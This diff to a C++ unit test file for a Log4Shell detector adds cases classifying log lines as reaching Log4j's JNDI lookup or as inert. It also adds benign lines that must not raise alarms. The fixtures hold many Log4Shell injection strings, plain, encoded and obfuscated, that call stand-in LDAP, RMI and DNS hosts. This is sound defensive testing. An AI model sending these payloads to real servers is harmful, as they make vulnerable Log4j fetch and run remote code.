@@ -2,6 +2,7 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <fstream>
 #include <string>
 #include <vector>
@@ -23,26 +24,72 @@ TEST(DetectionTest, PlainAttempt) {
   EXPECT_TRUE(d->layers.empty());
 }
 
-TEST(DetectionTest, EncodedAttempts) {
+// Layers something upstream of Log4j decodes: a server decodes the request
+// target (repeatedly, as proxies chain) and Basic credentials; a JSON layout
+// escaped its values.
+TEST(DetectionTest, ReachesAfterWhatUpstreamDecodes) {
   struct Case {
     const char* line;
     const char* name;
+    std::vector<std::string> layers;
   } cases[] = {
-      {"GET /?a=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D HTTP/1.1", "ldap://198.51.100.23:1389/a"},
-      {"GET /%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D", "ldap://x.example/a"},
-      {"ua=\"\\u0024\\u007bjndi:rmi://x.example/a\\u007d\"", "rmi://x.example/a"},
-      {"ua=\"${jnd${upper:\\xC4\\xB1}:ldap://x.example/a}\"", "ldap://x.example/a"},
-      {"{\"ua\":\"${jndi:ldap:\\/\\/x.example\\/a}\"}", "ldap://x.example/a"},
-      {"Authorization: Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06cHc=", "ldap://x.example/a"},
-      {"&#36;&#123;jndi:dns://x.example&#125;", "dns://x.example"},
-      {"GET /?q=$${jndi:ldap://x.example/a} ${nope}", "ldap://x.example/a"},
+      {"1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET /?a=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D "
+       "HTTP/1.1\" 200 5",
+       "ldap://198.51.100.23:1389/a", {"url"}},
+      {"GET /%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D HTTP/1.1", "ldap://x.example/a", {"url", "url"}},
+      {"{\"ua\":\"${jndi:ldap:\\/\\/x.example\\/a}\"}", "ldap://x.example/a", {}},
+      {"{\"message\":\"\\u0024{jndi:rmi://x.example/a}\"}", "rmi://x.example/a", {}},
+      {"Authorization: Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06cHc=", "ldap://x.example/a", {"basic_auth"}},
+      {"GET /?q=$${jndi:ldap://x.example/a} ${nope}", "ldap://x.example/a", {}},
+      {"ua=\"${jnd${upper:\xC4\xB1}:ldap://x.example/a}\"", "ldap://x.example/a", {}},
   };
   for (const Case& c : cases) {
     auto d = examine_line(c.line);
     ASSERT_TRUE(d) << c.line;
+    EXPECT_EQ(d->verdict, Verdict::kReachesJndi214) << c.line;
     ASSERT_FALSE(d->jndi.empty()) << c.line;
     EXPECT_EQ(d->jndi[0].name, c.name) << c.line;
+    std::vector<std::string> layers;
+    for (Layer l : d->layers) layers.emplace_back(layer_name(l));
+    EXPECT_EQ(layers, c.layers) << c.line;
   }
+}
+
+// Attempts Log4j 2.14.1 leaves unexpanded: reported, but as inert and low,
+// with the names the sender aimed at and what it would have needed.
+TEST(DetectionTest, InertAttempts) {
+  struct Case {
+    const char* line;
+    const char* why;  // the technique saying why
+    std::vector<std::string> layers;
+  } cases[] = {
+      // Encoded where nothing decodes it: a plain application log, a header, a logged body.
+      {"2021-12-10 12:00:00 INFO ua=\\u0024\\u007bjndi:rmi://x.example/a\\u007d", "needs_decoding", {"unicode_escape"}},
+      {"1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"%24%7Bjndi:ldap://x.example/a%7D\"",
+       "needs_decoding", {"url"}},
+      {"comment=&#36;{jndi:dns://x.example} and more", "needs_decoding", {"html_entity"}},
+      {"comment=$&lbrace;jndi:dns://x.example&rbrace; and more", "needs_decoding", {"html_entity"}},
+      {"{\"message\":\"\\\\u0024{jndi:ldap://x.example/a}\"}", "needs_decoding", {"unicode_escape"}},
+      // A lookup prefix that does not exist: its base64 argument is never decoded.
+      {"X-Api-Version: ${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}", "needs_decoding", {"base64"}},
+      // Escaped, or never closed; a JSON line's own '}' does not close the value.
+      {"GET /?q=$${jndi:ldap://x.example/a}", "escaped_lookup", {}},
+      {"user agent ${jndi:ldap://x.example/a", "unterminated_lookup", {}},
+      {"{\"msg\":\"${jndi:ldap://x.example/a\"}", "unterminated_lookup", {}},
+  };
+  for (const Case& c : cases) {
+    auto d = examine_line(c.line);
+    ASSERT_TRUE(d) << c.line;
+    EXPECT_EQ(d->verdict, Verdict::kInert) << c.line;
+    EXPECT_EQ(d->severity, Severity::kLow) << c.line;
+    ASSERT_FALSE(d->jndi.empty()) << c.line;
+    EXPECT_NE(std::find(d->techniques.begin(), d->techniques.end(), c.why), d->techniques.end()) << c.line;
+    std::vector<std::string> layers;
+    for (Layer l : d->layers) layers.emplace_back(layer_name(l));
+    EXPECT_EQ(layers, c.layers) << c.line;
+  }
+  // What Log4j logged is the value itself.
+  EXPECT_EQ(examine_line("user agent ${jndi:ldap://x.example/a")->resolved, "user agent ${jndi:ldap://x.example/a");
 }
 
 // research/hunting.md sections 2.1 and 7.4: what other tools flag wrongly.
@@ -56,8 +103,10 @@ TEST(DetectionTest, NoFalseAlarms) {
            "debconf: ${REMOVED_DEVICES}",
            "GET /?gdpr=${GDPR} HTTP/1.1",
            "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=${@phpinfo()}",
-           "escaped: $${jndi:ldap://x.example/a}",
            "export PATH=${PATH}:${HOME}/bin",
+           "redirect to https://${system.urlhostname}:${port}/ui",
+           "Exception in thread DataNode$PacketResponder: $HOME",
+           "{\"msg\":\"price %2450 ${solution-user.name}\",\"q\":\"$filter=a&%24top=5\"}",
        }) {
     EXPECT_FALSE(examine_line(line)) << line;
   }
